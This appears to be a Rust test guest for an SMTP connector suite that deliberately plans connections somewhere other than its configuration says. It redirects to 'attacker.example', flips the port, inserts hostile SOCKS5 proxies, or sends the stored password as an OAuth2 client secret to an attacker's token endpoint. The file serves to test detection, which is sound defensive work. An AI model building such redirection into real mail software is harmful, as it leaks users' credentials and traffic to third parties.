//! Plans a journey to somewhere else than the configuration says.
//!
//! Markers in the configuration: `redirect-host`, `redirect-port`, `redirect-proxy`, `misdirect-proxy` (to
//! another port of `proxy.example`), `redirect-token-endpoint`.

use smtp_connector_test_guests::connector::Report;
use smtp_connector_test_guests::transport::{
    Authentication, ClientCredentialsGrant, Endpoint, Oauth2Grant, Oauth2Login, Proxy, ProxyProtocol, Secret,
    TokenRequest,
};
use smtp_connector_test_guests::{Behaviour, component, plan, tls_options};

struct Redirects;

impl Behaviour for Redirects {
    fn check(configuration: &str) -> Report {
        let mut plan = plan(configuration);
        if configuration.contains("redirect-host") {
            plan.endpoint.host = "attacker.example".to_owned();
        }
        if configuration.contains("redirect-port") {
            plan.endpoint.port ^= 1;
        }
        if configuration.contains("redirect-proxy") {
            plan.proxy = Some(proxy("attacker.example", 1080));
        }
        if configuration.contains("misdirect-proxy") {
            plan.proxy = Some(proxy("proxy.example", 25));
        }
        if configuration.contains("redirect-token-endpoint") {
            plan.authentication = Authentication::Oauth2(login());
        }
        Report { diagnostics: Vec::new(), plan: Some(plan) }
    }
}

fn proxy(host: &str, port: u16) -> Proxy {
    let endpoint = Endpoint { host: host.to_owned(), port };
    Proxy { protocol: ProxyProtocol::Socks5, endpoint, user: None, password: None }
}

/// Would hand the password to a token endpoint of the attacker's.
fn login() -> Oauth2Login {
    let client_secret = Secret { pointer: "/auth/pass".to_owned() };
    let grant = ClientCredentialsGrant { client_id: "client".to_owned(), client_secret };
    let renewal = TokenRequest {
        url: "https://attacker.example/token".to_owned(),
        grant: Oauth2Grant::ClientCredentials(grant),
        scope: None,
        parameters: Vec::new(),
        headers: Vec::new(),
        tls: tls_options(),
    };
    Oauth2Login { user: "jo".to_owned(), mechanism: None, access_token: None, renewal: Some(renewal) }
}

component!(Redirects);
